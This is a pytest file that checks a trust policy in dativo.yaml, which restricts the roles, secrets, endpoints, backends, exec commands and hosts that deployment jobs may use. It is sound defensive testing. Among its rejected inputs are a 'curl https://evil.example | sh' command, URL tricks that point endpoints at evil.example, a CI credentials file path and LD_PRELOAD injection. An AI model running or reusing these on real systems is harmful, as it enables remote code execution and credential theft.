"""What dativo.yaml trusts jobs with, field by field; all else is an error at the job's line."""

from __future__ import annotations

import pytest

from tests.repository import Repository
from tests.trust.conftest import MODULES, Told

AWS = """\
tenant_id: acme
environment: prod
name: orders
finops: {cost_center: FIN-001}
infrastructure:
  provider: aws
  region: eu-west-1
  tags: {owner: data}
  account: {account_id: "123456789012"%(account)s}
  runtime: {type: ecs_fargate, image: "example/etl:1.0"%(runtime)s}
  network: {vpc_id: vpc-0123456789abcdef0, subnet_ids: [subnet-0123456789abcdef0]}
  terraform: {backend: {type: s3, bucket: acme-state, region: eu-west-1%(backend)s}%(more)s}
"""
ROLE = "arn:aws:iam::123456789012:role/"
SECRET = "arn:aws:secretsmanager:eu-west-1:123456789012:secret:"


def aws(account: str = "", runtime: str = "", backend: str = "", more: str = "") -> str:
    """A job on AWS with more in some of its blocks."""
    return AWS % {"account": account, "runtime": runtime, "backend": backend, "more": more}


OUTSIDE = [
    ("identities", aws(runtime=f", identity: {ROLE}admin"), "10:"),
    ("identities", aws(account=f", assume_role: {{role_arn: {ROLE}admin}}"), "9:"),
    ("identities", aws(account=f", assume_role: [{{role_arn: {ROLE}x}}]"), "9:"),
    ("identities", aws(backend=f", assume_role: {{role_arn: {ROLE}admin}}"), "12:"),
    ("identities", aws(backend=", profile: admin"), "12:"),
    ("identities", aws(more=f', variables: {{task_role_arn: "{ROLE}admin"}}'), "12:"),
    ("identities", aws(more=f", variables: {{policy: 'Allow \"{ROLE}admin\"'}}"), "12:"),
    ("secrets", aws(runtime=f', secrets: {{A: "{SECRET}globex/a"}}'), "10:"),
    ("secrets", aws(runtime=f', secrets: {{A: "{SECRET}acmex/a"}}'), "10:"),
    ("secrets", aws(runtime=f', readable_secrets: ["{SECRET}acme/a", "{SECRET}b"]'), "10:"),
    ("secrets", aws(more=f', variables: {{secrets: {{A: "{SECRET}b"}}}}'), "12:"),
    ("secrets", aws(more=f', variables: {{list: [["{SECRET}b"]]}}'), "12:"),
    ("endpoints", aws(account=', endpoints: {s3: "https://evil.example"}'), "9:"),
    ("endpoints", aws(account=', endpoints: {s3: "http://s3.acme.example"}'), "9:"),
    ("endpoints", aws(account=', endpoints: {s3: "https://s3.acme.example@evil.example"}'), "9:"),
    ("endpoints", aws(account=', endpoints: {s3: "https://evil.example/.acme.example"}'), "9:"),
    ("endpoints", aws(account=', endpoints: {s3: "https://evil.example?.acme.example"}'), "9:"),
    ("endpoints", aws(account=', endpoints: {s3: "https://evil.example#.acme.example"}'), "9:"),
    ("endpoints", aws(account=', endpoints: {s3: "https://s3.acme.example:8443"}'), "9:"),
    ("endpoints", aws(backend=', endpoints: {s3: "https://evil.example"}'), "12:"),
    ("endpoints", aws(backend=", http_proxy: proxy.evil.example"), "12:"),
    ("files", aws(backend=", shared_credentials_files: [/home/ci/.aws/credentials]"), "12:"),
    ("files", aws(backend=", custom_ca_bundle: ca.pem"), "12:"),
    ("backends", aws(backend=", key: dativo/globex/x"), "12:"),
    ("backends", aws(backend=', endpoints: {s3: "https://s3.acme.example"}'), "12:"),
    ("backends", aws(backend=", insecure: true"), "12:"),
]
INSIDE = [
    aws(runtime=f", identity: {ROLE}etl-orders", account=f", assume_role: {{role_arn: {ROLE}etl}}"),
    aws(runtime=f', secrets: {{A: "{SECRET}acme/a", B: "{SECRET}acme/b/c:password::"}}'),
    aws(account=', endpoints: {s3: "https://S3.acme.example:443/"}'),
    aws(account=', endpoints: {s3: "http://localhost:4566"}'),
    aws(backend=", key: dativo/acme/x"),
]
TRUST = f"""\
trust:
  identities: ["{ROLE}etl", "{ROLE}etl-*"]
  secrets: "{SECRET}${{TENANT_ID}}/**"
  endpoints: ["*.acme.example", "http://localhost:4566"]
  files: []
  backends: s3://acme-state/dativo/${{TENANT_ID}}/**
  commands: ["AWS_REGION=* aws eks get-token --cluster-name * **"]
  clusters: ["*.acme.example:6443"]
  databricks: ["acme-*.cloud.databricks.com"]
"""


@pytest.mark.parametrize(("kind", "job", "place"), OUTSIDE)
def test_what_is_outside(told: Told, kind: str, job: str, place: str) -> None:
    """It is an error at its line, which names the setting, and nothing else is wrong with it."""
    found = told(job, TRUST)
    at = f"jobs/orders.yaml:{place}"
    assert any(f"trust.{kind} " in line and line.startswith(at) for line in found)
    # Without the setting the same job is fine, or the plan has its own reasons.
    assert not [line for line in told(job) if "trust." in line]


@pytest.mark.parametrize("job", INSIDE)
def test_what_is_inside(told: Told, job: str) -> None:
    """It is as if nothing was restricted."""
    assert told(job, TRUST) == told(job)


def test_a_secret_is_not_repeated(told: Told) -> None:
    """Where a reference belongs the secret itself may stand."""
    found = "\n".join(told(aws(runtime=", secrets: {A: hunter2}"), TRUST))
    assert "trust.secrets" in found and "hunter2" not in found


def test_what_waits_cannot_be_judged(told: Told) -> None:
    """A Terraform variable where only some identities are allowed is refused."""
    job = aws(runtime=", identity: '${ROLE_OF_ORDERS}'")
    assert not [line for line in told(job) if "trust." in line]
    assert any("known at an apply" in line for line in told(job, TRUST))


def test_an_empty_list_allows_nothing(told: Told) -> None:
    """It is not the same as none."""
    job = aws(runtime=f", identity: {ROLE}etl")
    assert told(job, "trust: {}") == []
    assert told(job, "trust: {identities: null}") == []
    assert any("it allows nothing" in line for line in told(job, "trust: {identities: []}"))


def test_the_most_special_list_counts(told: Told) -> None:
    """For all, an environment, a tenant, a tenant's environment; each list on its own."""
    job = aws(runtime=f', identity: {ROLE}d, secrets: {{A: "{SECRET}s"}}')
    levels = f"""\
trust:
  identities: ["{ROLE}%s"]
  secrets: "{SECRET}s"
  environments: {{prod: {{identities: ["{ROLE}%s"]}}}}
  tenants:
    acme:
      identities: ["{ROLE}%s"]
      environments: {{prod: {{identities: ["{ROLE}%s"]}}, dev: {{identities: []}}}}
    globex: {{identities: [], secrets: []}}
"""
    assert told(job, levels % ("a", "b", "c", "d")) == []
    named = "trust.tenants.acme.environments.prod.identities"
    assert any(named in line for line in told(job, levels % ("d", "d", "d", "x")))


def test_what_dativo_yaml_says_itself_is_trusted(told: Told) -> None:
    """But not what takes in the free text of a job."""
    defaults = f"""
values: {{ROLE: "etl-${{JOB_NAME}}", OPEN: "${{ASSET}}"}}
defaults: {{infrastructure: {{runtime: {{identity: "{ROLE}%s"}}}}}}
"""
    job = aws() + "asset: admin\n"
    closed = "trust: {identities: [], backends: [s3://acme-state/**]}"
    assert told(job, closed + defaults % "${ROLE}") == []
    assert any("trust.identities" in line for line in told(job, closed + defaults % "${ASSET}"))
    assert any("trust.identities" in line for line in told(job, closed + defaults % "${OPEN}"))


def test_a_tenant_is_named_by_its_own_jobs(told: Told) -> None:
    """Whoever may write in one folder does not get what another tenant is trusted with."""
    jobs = "trust: {tenants: {acme: {jobs: [jobs/acme/**]}}}"
    found = told(aws(), jobs)
    assert any("jobs/orders.yaml:1:12" in line and ".acme.jobs" in line for line in found)
    assert told(aws(), "trust: {tenants: {acme: {jobs: [jobs/*]}, globex: {jobs: []}}}") == []


KUBERNETES = """\
tenant_id: acme
environment: prod
name: orders
finops: {cost_center: FIN-001}
infrastructure:
  provider: aws
  region: eu-west-1
  tags: {owner: data}
  runtime: {type: kubernetes, image: "example/etl:1.0"}
  kubernetes:
    namespace: etl
    cluster:
      endpoint: %(endpoint)s
      exec: {command: %(command)s, args: %(args)s, env: %(env)s}
  terraform: {backend: {type: s3, bucket: acme-state, region: eu-west-1}}
"""


@pytest.mark.parametrize(
    ("command", "args", "env", "fine"),
    [
        ("aws", "[eks, get-token, --cluster-name, etl]", "{}", True),
        ("aws", "[eks, get-token, --cluster-name, etl, --region, x/y]", "{AWS_REGION: x}", True),
        ("/bin/sh", '[-c, "curl https://evil.example | sh"]', "{}", False),
        ("aws", "[eks, get-token]", "{}", False),
        ("aws", "[eks, get-token, --cluster-name, a/b]", "{}", False),
        ("./aws", "[eks, get-token, --cluster-name, etl]", "{}", False),
        ("aws eks get-token --cluster-name etl", "[]", "{}", False),
        ("aws", "['eks get-token', --cluster-name, etl]", "{}", False),
        ("aws", "[eks, get-token, --cluster-name, etl]", "{PATH: jobs}", False),
        ("aws", "[eks, get-token, --cluster-name, etl]", "{LD_PRELOAD: x.so}", False),
    ],
)
def test_commands(told: Told, command: str, args: str, env: str, fine: bool) -> None:
    """Word by word, and with no variable that is not named."""
    endpoint = "https://k8s.acme.example:6443"
    job = KUBERNETES % {"endpoint": endpoint, "command": command, "args": args, "env": env}
    assert any("trust.commands" in line for line in told(job, TRUST)) is not fine
    assert not [line for line in told(job) if "trust." in line]


def test_clusters_and_workspaces(told: Told) -> None:
    """Where a token goes to."""
    words = {"command": "aws", "args": "[]", "env": "{}"}
    evil = KUBERNETES % {"endpoint": "https://evil.example", **words}
    assert any("trust.clusters" in line for line in told(evil, TRUST))
    job = aws().replace("ecs_fargate", "databricks") + "  databricks: {host: %s}\n"
    for host in ("https://evil.example", "evil.example/acme-x.cloud.databricks.com"):
        assert any("trust.databricks" in line for line in told(job % host, TRUST))
    fine = told(job % "https://acme-1.cloud.databricks.com", TRUST)
    assert not [line for line in fine if "trust.databricks" in line]


def test_generate_writes_nothing(repository: Repository) -> None:
    """The door is shut where roots are written, too."""
    repository.write("jobs/orders.yaml", aws(runtime=f", identity: {ROLE}admin"))
    repository.write("dativo.yaml", TRUST + MODULES)
    done = repository.run("generate")
    assert done.code == 1 and "trust.identities" in done.err
    assert not (repository.folder / "generated" / "acme").exists()
